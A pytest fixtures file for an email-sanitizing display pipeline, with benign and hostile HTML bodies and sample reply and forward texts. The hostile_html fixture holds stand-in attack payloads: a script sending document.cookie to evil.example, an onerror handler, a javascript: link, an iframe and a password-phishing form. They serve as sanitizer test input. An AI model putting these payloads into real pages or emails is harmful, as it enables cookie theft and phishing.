"""
Shared test fixtures for the display pipeline test suite.
"""
import pytest

from mailsafe.models.email_document import EmailDocument
from mailsafe.models.pipeline_version import PipelineVersion


# ==========================================================================
# Pipeline Version
# ==========================================================================

@pytest.fixture
def pipeline_version():
    return PipelineVersion(
        sanitizerversion="html-sanitizer-test",
        previewversion="preview-parser-test",
    )


# ==========================================================================
# HTML bodies
# ==========================================================================

@pytest.fixture
def benign_html():
    return (
        "<style>p { color: #333; }</style>"
        '<p class="lead">Hello <strong>team</strong>,</p>'
        '<p>See <a href="https://example.com/report">the report</a>.</p>'
        '<img src="cid:logo@example.com" alt="Logo">'
    )


@pytest.fixture
def hostile_html():
    return (
        "<p>Your invoice is ready.</p>"
        "<script>document.location='https://evil.example/?c='+document.cookie</script>"
        '<img src="https://tracker.example.com/open.gif" width="1" height="1" onerror="steal()">'
        '<a href="javascript:alert(\'x\')">View invoice</a>'
        '<iframe src="https://evil.example/frame"></iframe>'
        '<form action="https://evil.example/login"><input name="password" type="password"></form>'
    )


# ==========================================================================
# Plaintext bodies
# ==========================================================================

@pytest.fixture
def reply_text():
    return (
        "Sounds good, I'll bring the slides on Thursday.\n"
        "\n"
        "Best regards,\n"
        "Jane\n"
        "\n"
        "On Mon, Jan 1, 2024 at 3:00 PM John Doe <john@example.com> wrote:\n"
        "> Can you present on Thursday?\n"
        ">\n"
        "> Thanks,\n"
        "> John\n"
    )


@pytest.fixture
def forwarded_text():
    return (
        "FYI - see below.\n"
        "\n"
        "---------- Forwarded message ---------\n"
        "From: John Doe <john@example.com>\n"
        "Date: Wed, Dec 1, 2024 at 2:30 PM\n"
        "Subject: Q4 Report\n"
        "To: Team <team@example.com>\n"
        "\n"
        "Please review the attached Q4 report.\n"
    )


# ==========================================================================
# Email Document
# ==========================================================================

@pytest.fixture
def mock_document(reply_text, hostile_html):
    return EmailDocument(
        message_id="<test-msg-001@example.com>",
        from_raw="Jane Smith <jane@example.com>",
        subject="Re: Fwd: Thursday presentation",
        body_text=reply_text,
        body_html=hostile_html,
    )


@pytest.fixture
def html_only_document():
    return EmailDocument(
        message_id="<test-msg-002@example.com>",
        from_raw="news@example.com",
        subject="Weekly digest",
        body_html=(
            "<html><head><title>Digest</title></head><body>"
            "<h1>Weekly digest</h1>"
            "<p onclick=\"track()\">Five stories you missed this week.</p>"
            '<img src="http://cdn.example.com/banner.png" alt="Banner">'
            "</body></html>"
        ),
    )


# ==========================================================================
# Batch payloads
# ==========================================================================

@pytest.fixture
def valid_payload():
    return {
        "message_id": "  <payload-001@example.com>  ",
        "from_raw": "Bob <bob@example.com>",
        "subject": "Fwd: Lunch",
        "body_text": "Want to grab lunch tomorrow?",
    }
